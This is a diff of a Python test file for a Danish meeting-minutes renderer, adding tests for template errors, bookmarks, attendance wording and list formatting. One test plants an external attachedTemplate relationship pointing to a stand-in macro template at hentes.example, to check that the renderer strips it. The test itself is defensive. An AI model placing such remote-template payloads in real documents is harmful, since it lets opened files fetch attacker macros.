@@ -13,11 +13,11 @@ from typing import TYPE_CHECKING, Any
 import docx
 import pytest
 
-from stt_minutes.documents import Options, package, reading, render, style
+from stt_minutes.documents import STYLES, Options, package, reading, render, style
 from stt_minutes.documents.fill import SHADE, w
 from stt_minutes.documents.sample import sample, sample_transcript
 from stt_minutes.errors import InvalidOption, TemplateError, TemplateMissing, WriteFailed
-from stt_minutes.values import Agenda, AgendaItem, Body, Decision, Minutes, MinutesItem, Part
+from stt_minutes.values import Agenda, AgendaItem, Attendance, Body, Decision, Minutes, MinutesItem, Part, Statement
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -203,7 +203,7 @@ def test_contents_count_pages(tmp_path: Path) -> None:
     assert pages[-1] > 2
 
 
-@pytest.mark.parametrize("name", ["referat", "referat-udvalg", "referat-beslutninger"])
+@pytest.mark.parametrize("name", STYLES)
 def test_house_styles(shown: Shown, tmp_path: Path, name: str) -> None:
     target = tmp_path / "referat.docx"
     render(sample(), target, template=style(name), options=Options(signatures=True))
@@ -263,6 +263,80 @@ def test_own_template_with_headers_tables_and_loops(tmp_path: Path) -> None:
         == "Godkendelse af dagsorden; Cykelsti langs Møllevej & Åvænget; Status på vintertjenesten; Eventuelt; Køb af ejendom og 5 punkter"
     )
     assert texts[1:] == ["Før: ", "Oversigtskort", "Uheldsstatistik 2021-2025", "Tilbud fra entreprenører efter"]
+
+
+def test_a_broken_template_is_named_with_its_paragraph(tmp_path: Path) -> None:
+    house = docx.Document()
+    house.add_paragraph("Referat")
+    house.add_paragraph("{%p for item in items %}")
+    house.save(str(tmp_path / "hus.docx"))
+    with pytest.raises(TemplateError, match=r"hus\.docx kan ikke udfyldes\. afsnit 2: .*for item.*\n.*aldrig lukket"):
+        render(sample(), tmp_path / "ud.docx", template=tmp_path / "hus.docx")
+    house = docx.Document()
+    house.add_paragraph("{{p title }}")
+    house.save(str(tmp_path / "hus.docx"))
+    with pytest.raises(TemplateError, match=r"Skriv {{ title }}"):
+        render(sample(), tmp_path / "ud.docx", template=tmp_path / "hus.docx")
+    assert not (tmp_path / "ud.docx").exists()
+
+
+def test_the_templates_own_template_is_forgotten(tmp_path: Path) -> None:
+    parts = package.members(style("referat"))
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"<w:updateFields",
+        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/><w:updateFields',
+    )
+    parts["word/_rels/settings.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://hentes.example/ond.dotm" TargetMode="External"/></Relationships>'
+    )
+    (tmp_path / "hus.docx").write_bytes(package.packed(parts))
+    render(sample(), tmp_path / "ud.docx", template=tmp_path / "hus.docx")
+    made_parts = package.members(tmp_path / "ud.docx")
+    assert not [
+        name for name, content in made_parts.items() if b"hentes.example" in content or b"attachedTemplate" in content
+    ]
+
+
+def test_bookmarks_are_told_apart(tmp_path: Path) -> None:
+    for name in STYLES:
+        render(sample(), tmp_path / "a.docx", template=style(name))
+        numbers = [each.get(w("id")) for each in main_part(tmp_path / "a.docx").iter(w("bookmarkStart"))]
+        assert len(set(numbers)) == len(numbers)
+        assert all(each.isdigit() for each in numbers)
+
+
+def test_guests_are_not_listed_among_the_members_comings_and_goings(tmp_path: Path) -> None:
+    came = (
+        Attendance("Lars Tornkær", "ankom", "2"),
+        Attendance("Poul Rævdal", "forlod", "3"),
+        Attendance("Lars Tornkær", "inhabil", "2"),
+    )
+    render(replace(sample(), attendance=came), tmp_path / "a.txt")
+    text = (tmp_path / "a.txt").read_text(encoding="utf-8")
+    assert "Lars Tornkær ankom" not in text
+    assert "Poul Rævdal forlod mødet under behandlingen af punkt 3." in text
+    assert "Lars Tornkær var inhabil og deltog ikke i behandlingen af punkt 2." in text
+
+
+def test_topics_of_eventuelt_are_a_list(tmp_path: Path) -> None:
+    item = AgendaItem("1", "Eventuelt")
+    said = (
+        Statement("topic", "Brandøvelse torsdag."),
+        Statement("protocol", "Ønsker det ført til protokol.", "Anna Holm"),
+    )
+    decision = Decision("andet", "Følgende blev nævnt:", origin="human")
+    render(Minutes(Agenda(Body("Rådet"), (item,)), (MinutesItem(item, decision, statements=said),)), tmp_path / "a.md")
+    assert "Følgende blev nævnt:\n\n- Brandøvelse torsdag.\n\nAnna Holm: Ønsker det ført til protokol." in (
+        tmp_path / "a.md"
+    ).read_text(encoding="utf-8")
+
+
+def test_sources_can_be_left_to_the_side_file(tmp_path: Path) -> None:
+    page = made(tmp_path, ".html", evidence="fil").read_text(encoding="utf-8")
+    assert "Bygger på" not in page
+    assert "Forslag; ikke bekræftet." in page
 
 
 def test_hostile_template_reaches_nothing(tmp_path: Path) -> None:
